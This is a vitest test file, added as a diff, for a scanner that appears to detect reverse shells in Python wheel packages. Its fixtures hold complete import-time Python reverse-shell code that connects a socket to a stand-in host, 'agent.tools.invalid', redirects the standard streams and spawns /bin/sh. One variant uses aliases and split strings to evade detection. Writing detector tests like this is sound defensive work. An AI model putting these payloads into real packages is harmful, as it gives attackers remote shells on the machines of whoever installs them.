@@ -1,0 +1,84 @@
+import { expect, test } from 'vitest';
+import { inspect, python, wheel } from '../../support/inspect.ts';
+
+test('a shell on a connected socket at import is malware at the line of the shell', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, pty, socket',
+      's = socket.socket()',
+      "s.connect(('agent.tools.invalid', 4000))",
+      'os.dup2(s.fileno(), 0)',
+      'os.dup2(s.fileno(), 1)',
+      'os.dup2(s.fileno(), 2)',
+      "pty.spawn('/bin/sh')",
+    ),
+  });
+
+  const findings = await inspect('reverse-shell', file);
+
+  expect(findings).toMatchObject([
+    {
+      class: 'malware',
+      score: 12,
+      context: 'import',
+      path: 'pkg/__init__.py',
+      line: 7,
+      hosts: ['agent.tools.invalid'],
+    },
+  ]);
+  expect(findings[0]?.chain).toContainEqual(expect.objectContaining({ role: 'source', line: 3 }));
+});
+
+test('a terminal for a local program and a client of a socket are no reverse shell', async () => {
+  const file = wheel({
+    'pkg/terminal.py': python(
+      'import os, pty',
+      'def spawn(master, slave, command):',
+      '    os.dup2(slave, 0)',
+      '    os.dup2(slave, 1)',
+      "    pty.spawn(['/bin/bash', '-c', command])",
+    ),
+    'pkg/client.py': python(
+      'import socket',
+      'def ask(host, question):',
+      '    with socket.create_connection((host, 79)) as s:',
+      '        s.sendall(question)',
+      '        return s.recv(4096)',
+    ),
+  });
+
+  expect(await inspect('reverse-shell', file)).toEqual([]);
+});
+
+test('a loop over the descriptors, aliases and pty are found', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'from os import dup2 as put',
+      'import pty as terminal, socket as net',
+      'link = net.socket(net.AF_INET, net.SOCK_STREAM)',
+      "link.connect(('agent.' + 'tools.invalid', 4000))",
+      'for stream in (0, 1, 2):',
+      '    put(link.fileno(), stream)',
+      "terminal.spawn('/bin/' + 'bash')",
+    ),
+  });
+
+  expect(await inspect('reverse-shell', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 7 }]);
+});
+
+test('a shell started by subprocess on the streams of the socket is found without a terminal', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, socket, subprocess',
+      's = socket.socket()',
+      "s.connect(('agent.tools.invalid', 4000))",
+      'for stream in (0, 1, 2):',
+      '    os.dup2(s.fileno(), stream)',
+      "subprocess.call(['/bin/sh', '-i'])",
+    ),
+  });
+
+  expect(await inspect('reverse-shell', file)).toMatchObject([
+    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 6 },
+  ]);
+});
